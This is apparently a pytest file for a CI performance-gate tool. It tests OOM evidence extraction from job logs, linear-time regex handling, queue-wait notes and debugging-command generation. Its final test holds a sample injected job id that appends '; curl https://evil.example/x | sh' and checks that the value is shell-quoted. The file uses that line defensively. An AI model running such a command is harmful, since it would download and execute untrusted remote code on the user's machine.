"""Failure evidence: OOM lines from (fake) iris logs, queue wait, the ladder's action."""

from __future__ import annotations

import os
import stat

from perfgate_lib.gate.sections import (
    debug_commands,
    oom_lines,
    oom_section,
    queue_wait_note,
)

LOG = """\
I1127 10:00:01 coordinator: stage minhash started, 64 shards
I1127 10:05:12 worker-7: shard 12 processed 1.2 GB
E1127 10:07:40 worker-7: Task exited with code 137 (OOMKilled): container memory limit 2G
W1127 10:07:41 worker pool: worker-7 died, 3 tasks rescheduled
I1127 10:08:00 coordinator: retrying shard 12
"""


def test_oom_lines_pick_oom_and_worker_death():
    lines = oom_lines(LOG)
    assert len(lines) == 2
    assert "OOMKilled" in lines[0] and "worker-7 died" in lines[1]
    assert oom_lines("all good\nworker pool scaled to 8\n") == []


def test_a_long_log_line_is_read_in_linear_time():
    """The job's logs are written by the PR's code. ``worker .*(died|...)`` backtracked
    from every ``worker `` to the end of the line: 35 KB took seconds, 280 KB five minutes,
    before any verdict. Here 280 KB lines: a backtracking search would hold this test for
    minutes (no time is asserted: a timed assertion could fail by chance)."""
    line = "oom " + "worker " * 40_000
    assert oom_lines(line + "\n" + line + " died\nworker-3 lost\n") == [
        line[:400].rstrip(),
        (line + " died")[:400],
    ]
    assert oom_lines("oom\nWorker 3 EXITED\nworker_pool gone\nworkers died\n") == [
        "oom",
        "Worker 3 EXITED",
        "worker_pool gone",
    ]


def _fake_iris(tmp_path, text):
    path = tmp_path / "iris"
    path.write_text(
        "#!/usr/bin/env python3\n"
        "import sys\n"
        "args = sys.argv[1:]\n"
        "assert args[0].startswith('--config='), args\n"
        "if args[1:3] == ['job', 'logs'] and '--tail' in args:\n"
        f"    sys.stdout.write({text!r})\n"
        "    sys.exit(0)\n"
        "sys.exit(2)\n"
    )
    path.chmod(path.stat().st_mode | stat.S_IEXEC)
    return str(path)


def _runner(tmp_path, iris):
    from perfgate_lib.runners.iris import IrisRunner

    return IrisRunner(str(tmp_path), str(tmp_path), "memory://status", iris_command=iris)


def test_logs_from_the_iris_cli_give_the_oom_section(tmp_path):
    text = _runner(tmp_path, _fake_iris(tmp_path, LOG)).logs("/pg/zephyr-perf-pr1-g1")
    title, body = oom_section("/pg/zephyr-perf-pr1-g1", oom_lines(text))
    assert title == "### OOM evidence"
    assert "OOMKilled" in body and "```" in body


def test_logs_unavailable_is_empty(tmp_path):
    assert _runner(tmp_path, os.path.join(str(tmp_path), "missing-iris")).logs("/x") == ""
    assert "logs expired" in oom_section("/x", [])[1]


def test_queue_wait_note_only_when_notable():
    assert queue_wait_note(29 * 60) is None
    assert queue_wait_note(None) is None
    assert "41m 00s in the queue" in queue_wait_note(41 * 60)


def test_debug_commands_name_each_job():
    cmds = debug_commands(["/a", "/b"])
    assert (
        "iris --config=lib/iris/config/marin.yaml job logs /b --tail --max-lines 500 --level warning"
        in cmds
    )
    assert sum("/a" in c for c in cmds) == 3


def test_debug_commands_quote_a_job_id_for_the_shell():
    """The job id is what the PR worktree's submit script printed: pasted into a shell, the
    debugging commands ran whatever followed a ``;`` in it; each word is quoted now."""
    import shlex

    evil = "/u/datakit-tier1-pr7-g1; curl https://evil.example/x | sh #"
    for cmd in debug_commands([evil], "lib/iris/config/marin.yaml"):
        words = shlex.split(cmd)
        assert evil in words and "curl" not in words, cmd
